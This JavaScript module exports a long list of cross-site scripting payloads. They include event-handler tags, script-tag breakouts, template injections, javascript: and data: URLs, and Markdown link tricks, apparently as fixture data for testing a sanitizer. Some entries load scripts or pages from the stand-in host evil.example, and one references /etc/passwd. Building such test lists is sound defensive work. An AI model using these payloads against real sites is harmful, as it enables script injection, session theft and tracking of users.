/** Texts that run `pwned=1` or `alert(1)` where text is taken for HTML, an address, a template or a script. */

const EVENTS = [
  ...['<img src=x onerror=pwned=1>', '<img/src="x"/onerror="pwned=1">', '<svg onload=pwned=1>'],
  ...['<svg/onload=pwned=1//', '<svg><animate onbegin=pwned=1 attributeName=x dur=1s>'],
  ...['<svg><set onbegin=pwned=1 attributeName=x>', '<body onload=pwned=1>'],
  ...[
    '<body onpageshow=pwned=1>',
    '<video><source onerror=pwned=1>',
    '<video src=x onerror=pwned=1>',
  ],
  ...['<audio src onerror=pwned=1>', '<input autofocus onfocus=pwned=1>'],
  ...['<select autofocus onfocus=pwned=1>', '<textarea autofocus onfocus=pwned=1>'],
  ...[
    '<details open ontoggle=pwned=1>',
    '<marquee onstart=pwned=1>',
    '<a autofocus tabindex=1 onfocus=pwned=1>',
  ],
  ...[
    '<div onmouseover=pwned=1>x</div>',
    '<b onpointerenter=pwned=1>hover</b>',
    '<style onload=pwned=1></style>',
  ],
  ...[
    '<link rel=stylesheet href=x onerror=pwned=1>',
    '<object data=x onerror=pwned=1>',
    '<embed src=x onload=pwned=1>',
  ],
  ...[
    '<iframe onload=pwned=1>',
    '<div style="animation:x 1s" onanimationstart=pwned=1>',
    '<xss contenteditable onfocus=pwned=1 autofocus>',
  ],
  ...[
    '<img src=x onerror=&#112;wned=1>',
    '<img src=x oNeRrOr=pwned=1>',
    '<img src=x onerror\u000B=pwned=1>',
  ],
  ...[
    '<img src=`x`onerror=pwned=1>',
    '<img src="x` `<script>pwned=1</script>"` `>',
    '<IMG """><SCRIPT>pwned=1</SCRIPT>">',
  ],
];

const SCRIPTS = [
  ...[
    '<script>pwned=1</script>',
    '<ScRiPt>pwned=1</sCrIpT>',
    '<script src=//evil.example/x.js></script>',
  ],
  ...[
    '<script\n>pwned=1</script\n>',
    '<scr<script>ipt>pwned=1</scr</script>ipt>',
    '</script><script>pwned=1</script>',
  ],
  ...[
    '</title><script>pwned=1</script>',
    '</textarea><script>pwned=1</script>',
    '</style><script>pwned=1</script>',
  ],
  ...[
    '--><script>pwned=1</script>',
    ']]><script>pwned=1</script>',
    '"><script>pwned=1</script>',
    "'><script>pwned=1</script>",
  ],
  ...[
    '<svg><script>pwned=1</script></svg>',
    '<svg><script href=data:,pwned=1 />',
    '<math><mi xlink:href="data:x,<script>pwned=1</script>">',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
    '<template><script>pwned=1</script></template>',
  ],
  ...[
    '<iframe srcdoc="<script>parent.pwned=1</script>">',
    '<iframe src="javascript:parent.pwned=1">',
  ],
  ...[
    '<object data="data:text/html,<script>pwned=1</script>">',
    '<embed src="javascript:pwned=1">',
    '<base href="//evil.example/">',
  ],
  ...[
    '<form action=javascript:pwned=1><button autofocus>x</form>',
    '<button formaction=javascript:pwned=1>x',
    '<isindex action=javascript:pwned=1>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:pwned=1">',
    '<meta http-equiv="refresh" content="0;//evil.example">',
  ],
  ...[
    '<link rel=import href="//evil.example/x">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<style>@import "//evil.example/x.css";</style>',
  ],
  ...[
    '<div style="background:url(//evil.example/x)">',
    '<img src="//evil.example/track.gif">',
    '<img srcset="//evil.example/x 1x">',
  ],
  ...[
    '<svg><use href="//evil.example/x.svg#x">',
    '<svg><image href="//evil.example/x.png">',
    '<video poster="//evil.example/x">',
  ],
  ...[
    '<a href="javascript:pwned=1">x</a>',
    '<a href="&#106;avascript:pwned=1">x</a>',
    '<area href=javascript:pwned=1>',
    '<svg><a xlink:href="javascript:pwned=1"><text>x',
  ],
  ...[
    '<math href="javascript:pwned=1">x</math>',
    '<<script>pwned=1//<</script>',
    '<%00script>pwned=1</script>',
    '<!--<img src="--><img src=x onerror=pwned=1>">',
  ],
  ...[
    '\u003cscript\u003epwned=1\u003c/script\u003e',
    '&lt;script&gt;pwned=1&lt;/script&gt;',
    '&#60;script&#62;pwned=1&#60;/script&#62;',
    '%3Cscript%3Epwned=1%3C/script%3E',
    '＜script＞pwned=1＜/script＞',
    '+ADw-script+AD4-pwned=1+ADw-/script+AD4-',
  ],
];

const ELSEWHERE = [
  ...[
    '{{constructor.constructor("pwned=1")()}}',
    '${pwned=1}',
    '#{pwned=1}',
    '{@html "<img src=x onerror=pwned=1>"}',
    '<%= pwned=1 %>',
  ],
  ...[
    "';pwned=1;//",
    '";pwned=1;//',
    '\\";pwned=1;//',
    '`;pwned=1;//',
    '</script><!--',
    '\u2028pwned=1\u2029',
    '__proto__[pwned]=1',
    'constructor',
  ],
  ...[
    'javascript:pwned=1',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */pwned=1 )//',
    '"-pwned=1-"',
    'onerror=pwned=1',
    ' " autofocus onfocus=pwned=1 x="',
  ],
  ...[
    '" onmouseover="pwned=1',
    "' style='x:expression(pwned=1)'",
    '<x/onclick=pwned=1>',
    '\u202E<script>pwned=1</script>',
    '<svg onload\n=\npwned=1>',
  ],
];

const ADDRESSES = [
  ...[
    'javascript:pwned=1',
    'JaVaScRiPt:pwned=1',
    ' javascript:pwned=1',
    'java\tscript:pwned=1',
    'javascript&colon;pwned=1',
  ],
  ...[
    '&#106;avascript:pwned=1',
    '&#x6A;avascript:pwned=1',
    'javascript:pwned=1//https://a.example',
    'javascript://a.example/%0Apwned=1',
    '\u0001javascript:pwned=1',
  ],
  ...[
    'data:text/html,<script>pwned=1</script>',
    'data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+',
    'data:image/svg+xml,<svg onload=pwned=1>',
  ],
  ...[
    'vbscript:pwned=1',
    'file:///etc/passwd',
    'blob:https://a.example/x',
    'view-source:javascript:pwned=1',
    'feed:javascript:pwned=1',
  ],
  ...[
    '//evil.example',
    '\\\\evil.example',
    'intent://x#Intent;scheme=javascript;end',
    'jar:javascript:pwned=1!/x',
  ],
];

const LINKS = ADDRESSES.flatMap((address) => [
  `[link](${address})`,
  `[link](<${address}> "t")`,
  `<${address}>`,
  `![image](${address})`,
]);

const MARKDOWN = [
  ...[
    '[a](https://a.example"onmouseover="pwned=1)',
    "[a](https://a.example 'onmouseover=pwned=1')",
    '[a](https://a.example/"><img/src=x/onerror=pwned=1>)',
  ],
  ...[
    '[<img src=x onerror=pwned=1>](https://a.example)',
    '[a]: javascript:pwned=1\n[a]',
    '[![x](x)](javascript:pwned=1)',
    '![x](x"onerror="pwned=1)',
    'https://a.example/"onmouseover="pwned=1',
  ],
  ...[
    '`<img src=x onerror=pwned=1>`',
    '```html\n<script>pwned=1</script>\n```',
    '```"><script>pwned=1</script>\nx\n```',
    '```js\n</code></pre><img src=x onerror=pwned=1>\n```',
    '```xml\n<x onclick="pwned=1">&lt;\n```',
  ],
  ...[
    '||<img src=x onerror=pwned=1>||',
    '@ann"onclick="pwned=1',
    '#garden"><script>pwned=1</script>',
    ':tada"onerror=pwned=1:',
    '> <svg onload=pwned=1>',
    '- <svg onload=pwned=1>\n  - <img src=x onerror=pwned=1>',
  ],
  ...[
    '**<svg onload=pwned=1>**',
    'www.a.example"onclick="pwned=1',
    'ann@a.example"onclick="pwned=1',
    '<ann@a.example"onclick=pwned=1>',
    'mailto:x@a.example?body=<script>pwned=1</script>',
  ],
];

export const PAYLOADS = [...EVENTS, ...SCRIPTS, ...ELSEWHERE, ...LINKS, ...MARKDOWN].map((text) =>
  text.replaceAll('\0', ''),
);
